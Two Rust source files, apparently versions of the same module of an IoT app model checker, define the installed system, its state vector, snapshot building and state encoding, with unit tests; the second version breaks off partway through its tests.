//! key bytes, no map iteration — into a caller-owned reusable buffer.

use crate::logevent::LogEvent;
use iotsan_config::SystemConfig;
use iotsan_devices::{Device, DeviceId, DeviceState, LocationMode, SystemTime};
use iotsan_ir::{IrApp, IrStmt, Sym, Symbols, Value};
use iotsan_properties::{
    CompileTarget, CompiledPropertySet, DeviceRole, DeviceSnapshot, PropertySet, Snapshot,
    TargetDevice,
};
use std::collections::HashMap;

/// A cyber event flowing through the system during verification.
///
/// The attribute is an interned [`Sym`] (resolve it with
/// [`InstalledSystem::attr_name`]); events are created and cloned on every
/// handler dispatch, so they must not carry owned strings for names that are
/// fixed at installation.
#[derive(Debug, Clone, PartialEq)]
pub struct InternalEvent {
    /// The device that generated the event, if any (`None` for location-mode
    /// changes and app-generated fake events with no device).
    pub device: Option<DeviceId>,
    /// Interned attribute name (`motion`, `contact`, `mode`, ...).
    pub attribute: Sym,
    /// New value.
    pub value: Value,
    /// True when the event came from the physical environment.
    pub physical: bool,
}

/// The apps and configuration under verification, with binding resolution.
#[derive(Debug, Clone)]
pub struct InstalledSystem {
    /// Translated apps (only those selected for this verification group).
    pub apps: Vec<IrApp>,
    /// The system configuration.
    pub config: SystemConfig,
    /// Installed devices (ids are positions in this table).
    pub devices: Vec<Device>,
    /// The frozen name table (see the module docs).
    pub symbols: Symbols,
    /// Per-device, per-spec-attribute-index interned attribute names.
    attr_syms: Vec<Vec<Sym>>,
    /// The interned `"mode"` attribute (location-mode change events).
    sym_mode: Sym,
    /// The interned `"touch"` attribute (app-touch events).
    sym_touch: Sym,
    /// The interned `"time"` attribute (timer events).
    sym_time: Sym,
    /// `slot_lookup[app name][state var] -> slot` into
    /// [`SystemState::app_state`].
    slot_lookup: HashMap<String, HashMap<String, u32>>,
    /// Total number of app state slots.
    slot_count: usize,
    /// Per-app-index resolved device bindings: `input name -> device ids`.
    /// Binding resolution runs on every subscription check and device
    /// expression, so it must be a borrow, not a fresh `Vec`.
    input_bindings: Vec<HashMap<String, Vec<DeviceId>>>,
    /// Per-device configured roles, parsed once at installation (role parsing
    /// lowercases strings; doing it per snapshot refresh would allocate on
    /// the hot loop).
    device_roles: Vec<DeviceRole>,
}

/// Collects every `state.*` variable name an app can write (declared
/// `state_vars` plus a scan of all `AssignState` statements, so lowering
/// changes can never leave a write without a slot).
fn collect_state_vars(app: &IrApp, out: &mut Vec<String>) {
    for var in &app.state_vars {
        if !out.iter().any(|n| n == var) {
            out.push(var.clone());
        }
    }
    // `IrStmt::walk` owns the statement-nesting knowledge, so a new nested
    // variant can never be silently missed by a hand-rolled copy here.
    for handler in &app.handlers {
        for stmt in &handler.body {
            stmt.walk(&mut |s| {
                if let IrStmt::AssignState { name, .. } = s {
                    if !out.iter().any(|n| n == name) {
                        out.push(name.clone());
                    }
                }
            });
        }
    }
}

impl InstalledSystem {
    /// Builds an installed system from apps and a configuration, freezing the
    /// symbol table and the app-state slot layout.
    pub fn new(apps: Vec<IrApp>, config: SystemConfig) -> Self {
        let devices = config.device_table();
        let mut symbols = Symbols::new();
        // Sym(0) is reserved for the empty string: `sym_of` falls back to it
        // for names that escaped installation-time interning.
        symbols.intern("");
        let sym_mode = symbols.intern("mode");
        let sym_touch = symbols.intern("touch");
        let sym_time = symbols.intern("time");

        let attr_syms: Vec<Vec<Sym>> = devices
            .iter()
            .map(|device| {
                symbols.intern(&device.label);
                let spec = device.spec();
                spec.attributes.iter().map(|attr| symbols.intern(attr.name)).collect()
            })
            .collect();

        let mut slot_lookup: HashMap<String, HashMap<String, u32>> = HashMap::new();
        let mut slot_count = 0usize;
        let mut vars = Vec::new();
        for app in &apps {
            symbols.intern(&app.name);
            for handler in &app.handlers {
                symbols.intern(&handler.name);
                if let iotsan_ir::Trigger::LocationEvent { name } = &handler.trigger {
                    symbols.intern(name);
                }
            }
            for handler in &app.handlers {
                for stmt in &handler.body {
                    stmt.walk(&mut |s| {
                        if let IrStmt::SendEvent { attribute, .. } = s {
                            symbols.intern(attribute);
                        }
                    });
                }
            }

            vars.clear();
            collect_state_vars(app, &mut vars);
            let entry = slot_lookup.entry(app.name.clone()).or_default();
            for var in &vars {
                symbols.intern(var);
                entry.entry(var.clone()).or_insert_with(|| {
                    let slot = slot_count as u32;
                    slot_count += 1;
                    slot
                });
            }
        }

        let input_bindings = apps
            .iter()
            .map(|app| {
                let mut map: HashMap<String, Vec<DeviceId>> = HashMap::new();
                if let Some(cfg) = config.app(&app.name) {
                    for (input, binding) in &cfg.bindings {
                        let ids: Vec<DeviceId> = binding
                            .device_labels()
                            .iter()
                            .filter_map(|label| config.device_id(label))
                            .collect();
                        map.insert(input.clone(), ids);
                    }
                }
                map
            })
            .collect();

        let device_roles = devices.iter().map(|d| config.role_of(&d.label)).collect();

        InstalledSystem {
            apps,
            config,
            devices,
            symbols,
            attr_syms,
            sym_mode,
            sym_touch,
            sym_time,
            slot_lookup,
            slot_count,
            input_bindings,
            device_roles,
        }
    }

    /// The interned symbol for `name`, falling back to the reserved empty
    /// symbol when `name` was never interned (which installation-time
    /// scanning should prevent).
    pub fn sym_of(&self, name: &str) -> Sym {
        match self.symbols.lookup(name) {
            Some(sym) => sym,
            None => {
                debug_assert!(false, "name {name:?} escaped installation-time interning");
                Sym(0)
            }
        }
    }

    /// Resolves an interned attribute (or any other) name.
    #[inline]
    pub fn attr_name(&self, sym: Sym) -> &str {
        self.symbols.resolve(sym)
    }

    /// The interned `"mode"` attribute.
    #[inline]
    pub fn mode_sym(&self) -> Sym {
        self.sym_mode
    }

    /// The interned `"touch"` attribute.
    #[inline]
    pub fn touch_sym(&self) -> Sym {
        self.sym_touch
    }

    /// The interned `"time"` attribute.
    #[inline]
    pub fn time_sym(&self) -> Sym {
        self.sym_time
    }

    /// The interned name of `device`'s spec attribute at `attr_index`.
    #[inline]
    pub fn device_attr_sym(&self, device: DeviceId, attr_index: usize) -> Sym {
        self.attr_syms[device.0 as usize][attr_index]
    }

    /// The devices bound to `input` of `app`.
    pub fn bound_devices(&self, app: &str, input: &str) -> Vec<DeviceId> {
        self.apps
            .iter()
            .position(|a| a.name == app)
            .map(|index| self.bound_slice(index, input).to_vec())
            .unwrap_or_default()
    }

    /// The devices bound to `input` of the app at `app_index`, as a borrow
    /// of the installation-time resolution (the hot-loop form).
    #[inline]
    pub fn bound_slice(&self, app_index: usize, input: &str) -> &[DeviceId] {
        self.input_bindings[app_index].get(input).map(Vec::as_slice).unwrap_or(&[])
    }

    /// The non-device setting value bound to `input` of `app`.
    pub fn setting_value(&self, app: &str, input: &str) -> Value {
        self.config
            .app(app)
            .and_then(|cfg| cfg.binding(input))
            .map(|b| b.to_value())
            .unwrap_or(Value::Null)
    }

    /// The device table entry for `id`.
    pub fn device(&self, id: DeviceId) -> &Device {
        &self.devices[id.0 as usize]
    }

    /// The app-state slot for `app`'s variable `var`, if the pair exists in
    /// the installation's slot table.
    pub fn state_slot(&self, app: &str, var: &str) -> Option<u32> {
        self.slot_lookup.get(app)?.get(var).copied()
    }

    /// Number of app-state slots in the state vector.
    pub fn state_slot_count(&self) -> usize {
        self.slot_count
    }

    /// Reads `app`'s state variable `var` from `state`.
    pub fn app_var(&self, state: &SystemState, app: &str, var: &str) -> Value {
        match self.state_slot(app, var).and_then(|slot| state.app_state[slot as usize].as_ref()) {
            Some(text) => Value::Str(text.clone()),
            None => Value::Null,
        }
    }

    /// Writes `app`'s state variable `var` into `state` (rendered form, so
    /// the state stays hashable).  Writes to unknown `(app, var)` pairs are
    /// ignored — installation scans the IR, so every reachable `state.*`
    /// assignment has a slot.
    pub fn set_app_var(&self, state: &mut SystemState, app: &str, var: &str, value: &Value) {
        if let Some(slot) = self.state_slot(app, var) {
            state.app_state[slot as usize] = Some(value.as_string());
        } else {
            debug_assert!(false, "state variable {app}::{var} has no slot");
        }
    }

    /// [`InstalledSystem::app_var`] addressed by app index (the interpreter's
    /// form).
    pub fn app_var_indexed(&self, state: &SystemState, app_index: usize, var: &str) -> Value {
        self.app_var(state, &self.apps[app_index].name, var)
    }

    /// [`InstalledSystem::set_app_var`] addressed by app index.
    pub fn set_app_var_indexed(
        &self,
        state: &mut SystemState,
        app_index: usize,
        var: &str,
        value: &Value,
    ) {
        let app = &self.apps[app_index].name;
        if let Some(slot) = self.state_slot(app, var) {
            state.app_state[slot as usize] = Some(value.as_string());
        } else {
            debug_assert!(false, "state variable {app}::{var} has no slot");
        }
    }

    /// The initial state of the whole system.
    pub fn initial_state(&self) -> SystemState {
        SystemState {
            devices: self.devices.iter().map(|d| d.initial_state()).collect(),
            mode: LocationMode::parse(&self.config.initial_mode).unwrap_or_default(),
            time: SystemTime::zero(),
            app_state: vec![None; self.slot_count],
            pending: Vec::new(),
            external_events: 0,
            monitors: Vec::new(),
        }
    }

    /// The layout the property compiler resolves specs against: one
    /// [`TargetDevice`] per installed device, in [`DeviceId`] order, with the
    /// exact attribute layout [`InstalledSystem::snapshot_into`] writes.
    pub fn compile_target(&self) -> CompileTarget {
        CompileTarget::new(
            self.devices
                .iter()
                .zip(&self.device_roles)
                .map(|(device, role)| {
                    let spec = device.spec();
                    TargetDevice {
                        id: device.id.0,
                        label: device.label.clone(),
                        capability: spec.capability.to_string(),
                        role: *role,
                        attributes: spec.attributes.iter().map(|a| a.name.to_string()).collect(),
                    }
                })
                .collect(),
        )
    }

    /// Compiles a property set against this installation (see
    /// [`CompiledPropertySet::compile`]).
    pub fn compile_properties(&self, properties: &PropertySet) -> CompiledPropertySet {
        CompiledPropertySet::compile(properties, &self.compile_target())
    }

    /// Builds the physical-state [`Snapshot`] the property checker consumes.
    pub fn snapshot(&self, state: &SystemState) -> Snapshot {
        let mut snap = Snapshot::default();
        self.snapshot_into(state, &mut snap);
        snap
    }

    /// Refreshes `snap` to reflect `state`, reusing every allocation: labels,
    /// capabilities, roles and attribute-name strings are written once (on
    /// first use of the buffer) and only the attribute *values*, online
    /// flags, mode and time are updated per call.  This is the per-transition
    /// property-check path.
    pub fn snapshot_into(&self, state: &SystemState, snap: &mut Snapshot) {
        // The template is rebuilt whenever the buffer does not belong to
        // *this* system — matching device count alone is not enough, since a
        // buffer reused across systems with equally many (but different)
        // devices would keep stale labels/capabilities/roles.  The label
        // comparison is a handful of short equal-string memcmps per call.
        let matches_system = snap.devices.len() == self.devices.len()
            && snap.devices.iter().zip(&self.devices).zip(&self.device_roles).all(
                |((s, d), role)| {
                    // Compare against what the template actually stores: the
                    // *spec* capability (a raw config capability may fall back
                    // to the `switch` spec) and the parsed configured role.
                    s.label == d.label && s.capability == d.spec().capability && s.role == *role
                },
            );
        if !matches_system {
            *snap = self.snapshot_template();
        }
        snap.mode.clear();
        snap.mode.push_str(state.mode.name());
        snap.time_seconds = state.time.seconds();
        for ((device, dstate), dsnap) in
            self.devices.iter().zip(&state.devices).zip(&mut snap.devices)
        {
            let spec = device.spec();
            dsnap.online = dstate.is_online();
            for (index, (_, value)) in dsnap.attributes.iter_mut().enumerate() {
                dstate.value_at_into(spec, index, value);
            }
        }
    }

    /// The constant parts of a snapshot (everything but values/online/mode).
    fn snapshot_template(&self) -> Snapshot {
        let devices = self
            .devices
            .iter()
            .zip(&self.device_roles)
            .map(|(device, role)| {
                let spec = device.spec();
                DeviceSnapshot {
                    id: device.id,
                    label: device.label.clone(),
                    capability: spec.capability.to_string(),
                    role: *role,
                    attributes: spec
                        .attributes
                        .iter()
                        .map(|attr| (attr.name.to_string(), Value::Null))
                        .collect(),
                    online: true,
                }
            })
            .collect();
        Snapshot { mode: String::new(), devices, time_seconds: 0 }
    }

    /// Renders an [`InternalEvent`] (for the concurrent design's dispatch
    /// log lines): `dev0/motion=active` or `mode=Away`.
    pub fn render_internal_event(&self, event: &InternalEvent) -> String {
        let attribute = self.attr_name(event.attribute);
        match event.device {
            Some(id) => format!("{id}/{attribute}={}", event.value),
            None => format!("{attribute}={}", event.value),
        }
    }

    /// Renders a structured [`LogEvent`] into a counterexample log line.
    pub fn render_log_event(&self, event: &LogEvent) -> iotsan_checker::LogLine {
        event.render(self)
    }
}

/// The model checker's state vector.
#[derive(Debug, Clone, PartialEq)]
pub struct SystemState {
    /// Per-device attribute valuations (indexed by [`DeviceId`]).
    pub devices: Vec<DeviceState>,
    /// Current location mode.
    pub mode: LocationMode,
    /// Modelled system time (not part of the state identity).
    pub time: SystemTime,
    /// Persistent app state variables in rendered form, indexed by the
    /// installation's slot table ([`InstalledSystem::state_slot`]); `None`
    /// means never written.
    pub app_state: Vec<Option<String>>,
    /// Pending (not yet dispatched) events; only the concurrent design keeps
    /// events pending across transitions.
    pub pending: Vec<InternalEvent>,
    /// Number of external events generated so far.
    pub external_events: usize,
    /// Leads-to obligation countdowns, one slot per compiled property with
    /// `within > 0` (see [`iotsan_properties::CompiledPropertySet`]).  Empty
    /// — and absent from the encoding — for property sets without bounded
    /// response distances, so the paper corpus keeps byte-identical state
    /// encodings.
    pub monitors: Vec<u8>,
}

/// Slot markers inside the encoded state.  All are in `0xfc..=0xff` — the
/// four byte values that can never occur anywhere in well-formed UTF-8 (lead
/// bytes stop at 0xf4), so marker-delimited rendered values stay unambiguous
/// without length prefixes.  Do not add markers below 0xfc: `0xf0..=0xf4`
/// are valid UTF-8 lead bytes.
const ENC_SLOT_EMPTY: u8 = 0xfe;
const ENC_SLOT_SET: u8 = 0xfd;
const ENC_SLOT_END: u8 = 0xff;
const ENC_NO_DEVICE: u8 = 0xfc;

impl SystemState {
    /// Serializes the state-identity-relevant parts into `out` (device states,
    /// mode, app variables and the pending-event queue; modelled time and the
    /// external-event count are excluded so equivalent physical states merge).
    ///
    /// The layout is flat and fixed by the installation: device attribute
    /// indices, the mode byte, one marker-delimited value per app-state slot
    /// (no key bytes — the slot position *is* the key) and the pending
    /// events keyed by their interned attribute ids.
    pub fn encode_into(&self, out: &mut Vec<u8>) {
        for device in &self.devices {
            device.encode_into(out);
        }
        out.push(self.mode.index());
        for slot in &self.app_state {
            match slot {
                None => out.push(ENC_SLOT_EMPTY),
                Some(value) => {
                    out.push(ENC_SLOT_SET);
                    out.extend_from_slice(value.as_bytes());
                    out.push(ENC_SLOT_END);
                }
            }
        }
        for event in &self.pending {
            out.extend_from_slice(&event.attribute.0.to_le_bytes());
            encode_value_into(&event.value, out);
            out.push(match event.device {
                Some(id) => id.0 as u8,
                None => ENC_NO_DEVICE,
            });
        }
        // Pending leads-to obligations distinguish states: a home that still
        // owes a response is not the same state as one that does not.
        out.extend_from_slice(&self.monitors);
    }
}

/// Encodes a [`Value`] without rendering it to a string (the old path built
/// `as_string()` per pending event per probe).
fn encode_value_into(value: &Value, out: &mut Vec<u8>) {
    match value {
        Value::Null => out.push(0),
        Value::Bool(b) => {
            out.push(1);
            out.push(*b as u8);
        }
        Value::Int(i) => {
            out.push(2);
            out.extend_from_slice(&i.to_le_bytes());
        }
        Value::Decimal(d) => {
            out.push(3);
            out.extend_from_slice(&d.to_bits().to_le_bytes());
        }
        Value::Str(s) => {
            out.push(4);
            out.extend_from_slice(s.as_bytes());
            out.push(ENC_SLOT_END);
        }
        Value::List(items) => {
            out.push(5);
            out.push(items.len().min(u8::MAX as usize) as u8);
            for item in items {
                encode_value_into(item, out);
            }
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use iotsan_config::{AppConfig, Binding, DeviceConfig};
    use iotsan_ir::{AppInput, IrExpr};

    fn system() -> InstalledSystem {
        let app = IrApp {
            name: "Unlock Door".into(),
            description: String::new(),
            inputs: vec![AppInput::device("lock1", "lock")],
            handlers: vec![],
            state_vars: vec!["count".into(), "x".into()],
            dynamic_discovery: false,
        };
        let config = SystemConfig::new()
            .with_device(DeviceConfig::new("doorLock", "lock", "main door lock"))
            .with_device(DeviceConfig::new("alicePresence", "presenceSensor", ""))
            .with_app(
                AppConfig::new("Unlock Door")
                    .with("lock1", Binding::Devices(vec!["doorLock".into()]))
                    .with("minutes", Binding::Number(10.0)),
            );
        InstalledSystem::new(vec![app], config)
    }

    #[test]
    fn binding_resolution() {
        let sys = system();
        assert_eq!(sys.bound_devices("Unlock Door", "lock1"), vec![DeviceId(0)]);
        assert!(sys.bound_devices("Unlock Door", "missing").is_empty());
        assert!(sys.bound_devices("Ghost", "lock1").is_empty());
        assert_eq!(sys.setting_value("Unlock Door", "minutes"), Value::Int(10));
        assert_eq!(sys.setting_value("Unlock Door", "unset"), Value::Null);
    }

    #[test]
    fn initial_state_and_snapshot() {
        let sys = system();
        let state = sys.initial_state();
        assert_eq!(state.devices.len(), 2);
        assert_eq!(state.mode, LocationMode::Home);
        let snap = sys.snapshot(&state);
        assert_eq!(snap.devices.len(), 2);
        assert_eq!(snap.mode, "Home");
        let lock = snap.devices.iter().find(|d| d.capability == "lock").unwrap();
        assert!(lock.attr_is("lock", "locked"));
        assert_eq!(lock.role, iotsan_properties::DeviceRole::MainDoorLock);
    }

    #[test]
    fn snapshot_into_reuses_buffers_and_tracks_state() {
        let sys = system();
        let mut state = sys.initial_state();
        let mut snap = Snapshot::default();
        sys.snapshot_into(&state, &mut snap);
        let lock = snap.devices.iter().find(|d| d.capability == "lock").unwrap();
        assert!(lock.attr_is("lock", "locked"));

        // Mutate the device state and refresh the same buffer.
        let spec = sys.device(DeviceId(0)).spec();
        state.devices[0].set(spec, "lock", &Value::Str("unlocked".into()));
        state.mode = LocationMode::Away;
        sys.snapshot_into(&state, &mut snap);
        assert_eq!(snap.mode, "Away");
        let lock = snap.devices.iter().find(|d| d.capability == "lock").unwrap();
        assert!(lock.attr_is("lock", "unlocked"));
        // The refreshed snapshot equals a freshly built one.
        assert_eq!(snap, sys.snapshot(&state));
    }

    #[test]
    fn symbols_cover_installation_names() {
        let sys = system();
        assert_eq!(sys.symbols.lookup(""), Some(Sym(0)));
        assert!(sys.symbols.lookup("Unlock Door").is_some());
        assert!(sys.symbols.lookup("doorLock").is_some());
        assert!(sys.symbols.lookup("lock").is_some());
        assert!(sys.symbols.lookup("presence").is_some());
        assert_eq!(sys.attr_name(sys.mode_sym()), "mode");
        assert_eq!(sys.attr_name(sys.touch_sym()), "touch");
        assert_eq!(sys.attr_name(sys.time_sym()), "time");
        // Device attribute syms resolve to the spec's attribute names.
        let lock_spec = sys.device(DeviceId(0)).spec();
        for (i, attr) in lock_spec.attributes.iter().enumerate() {
            assert_eq!(sys.attr_name(sys.device_attr_sym(DeviceId(0), i)), attr.name);
        }
    }

    #[test]
    fn app_vars_round_trip_through_slots() {
        let sys = system();
        let mut state = sys.initial_state();
        assert_eq!(sys.state_slot_count(), 2);
        assert_eq!(sys.app_var(&state, "Unlock Door", "count"), Value::Null);
        sys.set_app_var(&mut state, "Unlock Door", "count", &Value::Int(3));
        assert_eq!(sys.app_var(&state, "Unlock Door", "count"), Value::Str("3".into()));
        assert_eq!(sys.state_slot("Unlock Door", "count"), Some(0));
        assert_eq!(sys.state_slot("Unlock Door", "missing"), None);
        assert_eq!(sys.state_slot("Ghost", "count"), None);
    }

    #[test]
    fn state_vars_are_discovered_from_handler_bodies() {
        let app = IrApp {
            name: "Writer".into(),
            description: String::new(),
            inputs: vec![],
            handlers: vec![iotsan_ir::IrHandler {
                app: "Writer".into(),
                name: "h".into(),
                trigger: iotsan_ir::Trigger::AppTouch,
                body: vec![IrStmt::If {
                    cond: IrExpr::bool(true),
                    then: vec![IrStmt::AssignState {
                        name: "nested".into(),
                        value: IrExpr::int(1),
                    }],
                    els: vec![],
                }],
            }],
            state_vars: vec![],
            dynamic_discovery: false,
        };
        let sys = InstalledSystem::new(vec![app], SystemConfig::new());
        assert_eq!(sys.state_slot("Writer", "nested"), Some(0));
    }

    #[test]
    fn encoding_changes_with_state() {
        let sys = system();
        let mut a = sys.initial_state();
        let mut buf_a = Vec::new();
        a.encode_into(&mut buf_a);

        // Changing the mode changes the encoding; changing the time does not.
        let mut b = a.clone();
        b.mode = LocationMode::Away;
        let mut buf_b = Vec::new();
        b.encode_into(&mut buf_b);
        assert_ne!(buf_a, buf_b);

        a.time.tick();
        let mut buf_t = Vec::new();
        a.encode_into(&mut buf_t);
        assert_eq!(buf_a, buf_t);

        // App variables and pending events contribute.
        let mut c = sys.initial_state();
        sys.set_app_var(&mut c, "Unlock Door", "x", &Value::Int(1));
        let mut buf_c = Vec::new();
        c.encode_into(&mut buf_c);
        assert_ne!(buf_a, buf_c);

        let mut d = sys.initial_state();
        d.pending.push(InternalEvent {
            device: Some(DeviceId(1)),
            attribute: sys.sym_of("presence"),
            value: Value::Str("not present".into()),
            physical: true,
        });
        let mut buf_d = Vec::new();
        d.encode_into(&mut buf_d);
        assert_ne!(buf_a, buf_d);
    }

    #[test]
    fn distinct_slot_values_encode_distinctly() {
        let sys = system();
        let mut a = sys.initial_state();
        let mut b = sys.initial_state();
        // (empty, "1") vs ("1", empty) must not alias even without key bytes.
        sys.set_app_var(&mut a, "Unlock Door", "count", &Value::Int(1));
        sys.set_app_var(&mut b, "Unlock Door", "x", &Value::Int(1));
        let (mut buf_a, mut buf_b) = (Vec::new(), Vec::new());
        a.encode_into(&mut buf_a);
        b.encode_into(&mut buf_b);
        assert_ne!(buf_a, buf_b);
        // And None vs Some("") differ.
        let mut c = sys.initial_state();
        sys.set_app_var(&mut c, "Unlock Door", "count", &Value::Str(String::new()));
        let mut buf_c = Vec::new();
        c.encode_into(&mut buf_c);
        let mut buf_none = Vec::new();
        sys.initial_state().encode_into(&mut buf_none);
        assert_ne!(buf_c, buf_none);
    }

    #[test]
    fn internal_event_rendering() {
        let sys = system();
        let e = InternalEvent {
            device: Some(DeviceId(1)),
            attribute: sys.sym_of("presence"),
            value: Value::Str("not present".into()),
            physical: true,
        };
        assert_eq!(sys.render_internal_event(&e), "dev1/presence=not present");
        let e = InternalEvent {
            device: None,
            attribute: sys.mode_sym(),
            value: Value::Str("Away".into()),
            physical: false,
        };
        assert_eq!(sys.render_internal_event(&e), "mode=Away");
    }
}
