//! The installed system and its runtime state.
//!
//! An [`InstalledSystem`] binds translated apps ([`IrApp`]) to a concrete
//! [`SystemConfig`]: which devices exist, which devices each app input refers
//! to, which phone numbers are legitimate SMS recipients.  A [`SystemState`]
//! is the model checker's state vector: every device's attribute valuation,
//! the location mode, the modelled time, each app's persistent `state.*`
//! variables and (for the concurrent design) the queue of pending events.

use iotsan_config::SystemConfig;
use iotsan_devices::{Device, DeviceId, DeviceState, LocationMode, SystemTime};
use iotsan_ir::{IrApp, Value};
use iotsan_properties::{DeviceSnapshot, Snapshot};
use std::collections::BTreeMap;
use std::fmt;

/// A cyber event flowing through the system during verification.
#[derive(Debug, Clone, PartialEq)]
pub struct InternalEvent {
    /// The device that generated the event, if any (`None` for location-mode
    /// changes and app-generated fake events with no device).
    pub device: Option<DeviceId>,
    /// Attribute name (`motion`, `contact`, `mode`, ...).
    pub attribute: String,
    /// New value.
    pub value: Value,
    /// True when the event came from the physical environment.
    pub physical: bool,
}

impl fmt::Display for InternalEvent {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        match self.device {
            Some(id) => write!(f, "{id}/{}={}", self.attribute, self.value),
            None => write!(f, "{}={}", self.attribute, self.value),
        }
    }
}

/// The apps and configuration under verification, with binding resolution.
#[derive(Debug, Clone)]
pub struct InstalledSystem {
    /// Translated apps (only those selected for this verification group).
    pub apps: Vec<IrApp>,
    /// The system configuration.
    pub config: SystemConfig,
    /// Installed devices (ids are positions in this table).
    pub devices: Vec<Device>,
}

impl InstalledSystem {
    /// Builds an installed system from apps and a configuration.
    pub fn new(apps: Vec<IrApp>, config: SystemConfig) -> Self {
        let devices = config.device_table();
        InstalledSystem { apps, config, devices }
    }

    /// The devices bound to `input` of `app`.
    pub fn bound_devices(&self, app: &str, input: &str) -> Vec<DeviceId> {
        self.config
            .app(app)
            .map(|cfg| {
                cfg.devices_for(input)
                    .iter()
                    .filter_map(|label| self.config.device_id(label))
                    .collect()
            })
            .unwrap_or_default()
    }

    /// The non-device setting value bound to `input` of `app`.
    pub fn setting_value(&self, app: &str, input: &str) -> Value {
        self.config
            .app(app)
            .and_then(|cfg| cfg.binding(input))
            .map(|b| b.to_value())
            .unwrap_or(Value::Null)
    }

    /// The device table entry for `id`.
    pub fn device(&self, id: DeviceId) -> &Device {
        &self.devices[id.0 as usize]
    }

    /// The initial state of the whole system.
    pub fn initial_state(&self) -> SystemState {
        SystemState {
            devices: self.devices.iter().map(|d| d.initial_state()).collect(),
            mode: LocationMode::parse(&self.config.initial_mode).unwrap_or_default(),
            time: SystemTime::zero(),
            app_state: BTreeMap::new(),
            pending: Vec::new(),
            external_events: 0,
        }
    }

    /// Builds the physical-state [`Snapshot`] the property checker consumes.
    pub fn snapshot(&self, state: &SystemState) -> Snapshot {
        let devices = self
            .devices
            .iter()
            .zip(&state.devices)
            .map(|(device, dstate)| {
                let spec = device.spec();
                DeviceSnapshot {
                    id: device.id,
                    label: device.label.clone(),
                    capability: spec.capability.to_string(),
                    role: self.config.role_of(&device.label),
                    attributes: spec
                        .attributes
                        .iter()
                        .map(|attr| (attr.name.to_string(), dstate.get(spec, attr.name)))
                        .collect(),
                    online: dstate.is_online(),
                }
            })
            .collect();
        Snapshot {
            mode: state.mode.name().to_string(),
            devices,
            time_seconds: state.time.seconds(),
        }
    }
}

/// The model checker's state vector.
#[derive(Debug, Clone, PartialEq)]
pub struct SystemState {
    /// Per-device attribute valuations (indexed by [`DeviceId`]).
    pub devices: Vec<DeviceState>,
    /// Current location mode.
    pub mode: LocationMode,
    /// Modelled system time (not part of the state identity).
    pub time: SystemTime,
    /// Persistent app state variables, keyed `"app::var"`, stored in rendered
    /// form so the state stays hashable.
    pub app_state: BTreeMap<String, String>,
    /// Pending (not yet dispatched) events; only the concurrent design keeps
    /// events pending across transitions.
    pub pending: Vec<InternalEvent>,
    /// Number of external events generated so far.
    pub external_events: usize,
}

impl SystemState {
    /// Reads an app state variable.
    pub fn app_var(&self, app: &str, var: &str) -> Value {
        match self.app_state.get(&format!("{app}::{var}")) {
            Some(text) => Value::Str(text.clone()),
            None => Value::Null,
        }
    }

    /// Writes an app state variable.
    pub fn set_app_var(&mut self, app: &str, var: &str, value: &Value) {
        self.app_state.insert(format!("{app}::{var}"), value.as_string());
    }

    /// Serializes the state-identity-relevant parts into `out` (device states,
    /// mode, app variables and the pending-event queue; modelled time and the
    /// external-event count are excluded so equivalent physical states merge).
    pub fn encode_into(&self, out: &mut Vec<u8>) {
        for device in &self.devices {
            device.encode_into(out);
        }
        out.push(self.mode.index());
        for (key, value) in &self.app_state {
            out.extend_from_slice(key.as_bytes());
            out.push(0xfe);
            out.extend_from_slice(value.as_bytes());
            out.push(0xff);
        }
        for event in &self.pending {
            out.extend_from_slice(event.attribute.as_bytes());
            out.push(0xfd);
            out.extend_from_slice(event.value.as_string().as_bytes());
            out.push(match event.device {
                Some(id) => id.0 as u8,
                None => 0xfc,
            });
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use iotsan_config::{AppConfig, Binding, DeviceConfig};
    use iotsan_ir::AppInput;

    fn system() -> InstalledSystem {
        let app = IrApp {
            name: "Unlock Door".into(),
            description: String::new(),
            inputs: vec![AppInput::device("lock1", "lock")],
            handlers: vec![],
            state_vars: vec![],
            dynamic_discovery: false,
        };
        let config = SystemConfig::new()
            .with_device(DeviceConfig::new("doorLock", "lock", "main door lock"))
            .with_device(DeviceConfig::new("alicePresence", "presenceSensor", ""))
            .with_app(
                AppConfig::new("Unlock Door")
                    .with("lock1", Binding::Devices(vec!["doorLock".into()]))
                    .with("minutes", Binding::Number(10.0)),
            );
        InstalledSystem::new(vec![app], config)
    }

    #[test]
    fn binding_resolution() {
        let sys = system();
        assert_eq!(sys.bound_devices("Unlock Door", "lock1"), vec![DeviceId(0)]);
        assert!(sys.bound_devices("Unlock Door", "missing").is_empty());
        assert!(sys.bound_devices("Ghost", "lock1").is_empty());
        assert_eq!(sys.setting_value("Unlock Door", "minutes"), Value::Int(10));
        assert_eq!(sys.setting_value("Unlock Door", "unset"), Value::Null);
    }

    #[test]
    fn initial_state_and_snapshot() {
        let sys = system();
        let state = sys.initial_state();
        assert_eq!(state.devices.len(), 2);
        assert_eq!(state.mode, LocationMode::Home);
        let snap = sys.snapshot(&state);
        assert_eq!(snap.devices.len(), 2);
        assert_eq!(snap.mode, "Home");
        let lock = snap.devices.iter().find(|d| d.capability == "lock").unwrap();
        assert!(lock.attr_is("lock", "locked"));
        assert_eq!(lock.role, iotsan_properties::DeviceRole::MainDoorLock);
    }

    #[test]
    fn app_vars_round_trip() {
        let sys = system();
        let mut state = sys.initial_state();
        assert_eq!(state.app_var("Unlock Door", "count"), Value::Null);
        state.set_app_var("Unlock Door", "count", &Value::Int(3));
        assert_eq!(state.app_var("Unlock Door", "count"), Value::Str("3".into()));
    }

    #[test]
    fn encoding_changes_with_state() {
        let sys = system();
        let mut a = sys.initial_state();
        let mut buf_a = Vec::new();
        a.encode_into(&mut buf_a);

        // Changing the mode changes the encoding; changing the time does not.
        let mut b = a.clone();
        b.mode = LocationMode::Away;
        let mut buf_b = Vec::new();
        b.encode_into(&mut buf_b);
        assert_ne!(buf_a, buf_b);

        a.time.tick();
        let mut buf_t = Vec::new();
        a.encode_into(&mut buf_t);
        assert_eq!(buf_a, buf_t);

        // App variables and pending events contribute.
        let mut c = sys.initial_state();
        c.set_app_var("Unlock Door", "x", &Value::Int(1));
        let mut buf_c = Vec::new();
        c.encode_into(&mut buf_c);
        assert_ne!(buf_a, buf_c);
    }

    #[test]
    fn internal_event_display() {
        let e = InternalEvent {
            device: Some(DeviceId(1)),
            attribute: "presence".into(),
            value: Value::Str("not present".into()),
            physical: true,
        };
        assert_eq!(e.to_string(), "dev1/presence=not present");
        let e = InternalEvent {
            device: None,
            attribute: "mode".into(),
